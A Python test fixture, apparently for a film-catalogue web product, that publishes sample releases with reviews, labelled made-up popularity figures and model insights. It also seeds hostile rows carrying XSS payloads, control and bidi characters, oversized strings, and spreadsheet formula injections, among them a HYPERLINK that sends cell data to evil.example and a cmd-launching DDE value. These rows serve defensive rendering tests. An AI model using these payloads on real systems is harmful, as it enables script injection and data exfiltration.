"""Releases to look at the page with: one with reviews, made-up figures of popularity and a model's insights, among them rows that mean harm."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd

from trending.catalogue.content import CatalogueContent
from trending.catalogue.write import write_catalogue
from trending.insights.schema import Insights, Provenance, Quote, Tag, Theme
from trending.releases import ReleaseStore
from trending.releases.bundle import CATALOGUE_FILE, ENCODER_DIR, VECTORS_FILE, Release, seal_bundle
from trending.releases.manifest import read_manifest

MODEL = "openai/sample-model"
LAST_DAY = dt.date(2026, 11, 22)
ATTACK = (
    """<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><a href="javascript:window.pwned=3">x</a>"""
    """{{value}}${window.pwned=4}</textarea></template>"""
)
_RED = "\x1b[31mRed\x00 \u202egnihton\u202c\r\n\x07 title"
# Title id, title, plot; all of them are found by "haunted".
_HOSTILE = (
    ("bad:markup", ATTACK, f"A haunted house. {ATTACK}"),
    ("bad:control", _RED, "Bells\x07 and \u2066whistles\u2069 in a haunted house.\x9b"),
    ("bad:formula", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0 in a haunted house."),
    ("bad:huge", "Endless" * 3_000, "haunted house " + "word" * 250_000),
    ("bad:'\"><b>&?#%", "Odd id", "The id of it has quotes & marks, in a haunted house."),
)
HOSTILE_IDS = tuple(title_id for title_id, _, _ in _HOSTILE)


def publish_plain(home: Path, bundle: Path, titles: pd.DataFrame) -> ReleaseStore:
    """Publish a release as the product's own starter one is: titles and plots, nothing else."""
    return _publish(home, bundle, _make_content(titles, Release(bundle, read_manifest(bundle))))


def publish_sample(home: Path, bundle: Path, titles: pd.DataFrame) -> ReleaseStore:
    """Publish a release of some titles with reviews, trends and insights, and rows that mean harm."""
    titles = _add_hostile(titles)
    ids = titles["title_id"].tolist()
    content = _make_content(titles, Release(bundle, read_manifest(bundle)))
    return _publish(home, bundle, replace(content, reviews=_make_reviews(ids), trends=_make_trends(ids), insights=_make_insights(ids)))


def _publish(home: Path, bundle: Path, content: CatalogueContent) -> ReleaseStore:
    directory = home / "sample-bundle"
    shutil.copytree(bundle, directory)
    (directory / CATALOGUE_FILE).unlink()
    # Its vectors are of other rows.
    (directory / VECTORS_FILE).unlink(missing_ok=True)
    shutil.rmtree(directory / ENCODER_DIR, ignore_errors=True)
    write_catalogue(directory / CATALOGUE_FILE, content)
    created = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    seal_bundle(directory, read_manifest(bundle).model_copy(update={"version": f"{created:%Y%m%dT%H%M%SZ}-00000000", "created": created}))
    store = ReleaseStore(str(home / "releases"), home / "cache")
    store.publish(directory)
    return store


def _add_hostile(titles: pd.DataFrame) -> pd.DataFrame:
    template = titles.iloc[0].to_dict() | {"votes": None, "genres": ["Horror"], "url": "javascript:window.pwned=5", "data_licence": ATTACK, "source": "bad"}
    rows = [template | {"title_id": one, "source_id": one, "group_id": one, "title": title, "plot": plot} for one, title, plot in _HOSTILE]
    return pd.concat([titles, pd.DataFrame(rows, columns=titles.columns).astype(titles.dtypes)], ignore_index=True)


def _make_content(titles: pd.DataFrame, release: Release) -> CatalogueContent:
    predictor = release.predictor
    probabilities = predictor.predict_proba([predictor.prepare(plot[:2_000]) for plot in titles["plot"].fillna("")])
    return CatalogueContent(
        titles=titles,
        splits=pd.Series(["test"] * len(titles), index=titles.index),
        probabilities=probabilities,
        decisions=np.asarray(predictor.decide(probabilities)),
    )


def _make_reviews(ids: list[str]) -> pd.DataFrame:
    first = ids[0]
    texts = [
        (first, 9.0, "Still unsettling", "The crooked sets are a triumph, and the ending still stuns. A masterpiece of horror.", False),
        (first, 8.0, None, "Slow at first, but what an ending.", False),
        (first, 4.0, "He was the doctor", "The twist: the narrator is a patient himself.", True),
        ("bad:markup", 1.0, ATTACK, f"{ATTACK} and more words about it.", False),
    ]
    rows = [
        {
            "review_id": f"sample:{number}",
            "title_id": title_id,
            "source": "sample reviews",
            "author_hash": f"{number:x}",
            "rating": rating,
            "headline": headline,
            "text": text,
            "language": "en",
            "review_date": dt.date(2026, 10, number + 1),
            "spoiler": spoiler,
            "url": f"https://example.org/reviews/{number}",
            "data_licence": "CC0-1.0",
            "rights_class": "open_test",
        }
        for number, (title_id, rating, headline, text, spoiler) in enumerate(texts)
    ]
    return pd.DataFrame(rows)


def _make_trends(ids: list[str]) -> pd.DataFrame:
    ranked = [*ids[:15], "bad:markup"]
    rows = []
    for week in range(8):
        for place, title_id in enumerate(ranked):
            score = 3.2 - 0.17 * place + 0.22 * np.sin(week * 0.9 + place)
            seen = f"Sample figures: watched {90 - 3 * place},000 times last week, {12 + place} % more than the week before."
            new = f"Sample figures: new for {place + 2} days."
            parts = [{"name": "attention", "value": 1.4, "sentence": seen}, {"name": "freshness", "value": 0.6, "sentence": new}]
            rows.append({"as_of": LAST_DAY - dt.timedelta(weeks=7 - week), "title_id": title_id, "score": float(score), "parts": parts if week == 7 else []})
    return pd.DataFrame(rows)


def _make_insights(ids: list[str]) -> pd.DataFrame:
    quote = Quote(text="The crooked sets are a triumph", review_id="sample:0")
    made = Insights(
        summary="A sleepwalker foretells deaths at a fair of painted shadows, and a friend follows the showman behind him.",
        score=84,
        score_reasons=["Three reviews, two of them warm.", "Praised for its sets and its ending."],
        tags=[Tag(name="eerie", controlled=True, evidence=["crooked"]), Tag(name="dreamlike", controlled=False)],
        genres=["Horror", "Mystery"],
        praise=[Theme(theme="sets", quotes=[quote])],
        complaints=[Theme(theme="pace", quotes=[Quote(text="Slow at first", review_id="sample:1")])],
        provenance=Provenance(maker=MODEL, prompt="title-1", from_plot=True, from_reviews=3),
    )
    bad = made.model_copy(update={"summary": ATTACK, "score_reasons": [ATTACK], "tags": [Tag(name="<b>x</b>", controlled=False)]})
    documents = {ids[0]: made, "bad:markup": bad}
    return pd.DataFrame(
        [
            {"title_id": one, "score": found.score, "tags": [tag.name for tag in found.tags], "document": json.dumps(found.model_dump(mode="json"))}
            for one, found in documents.items()
        ]
    )
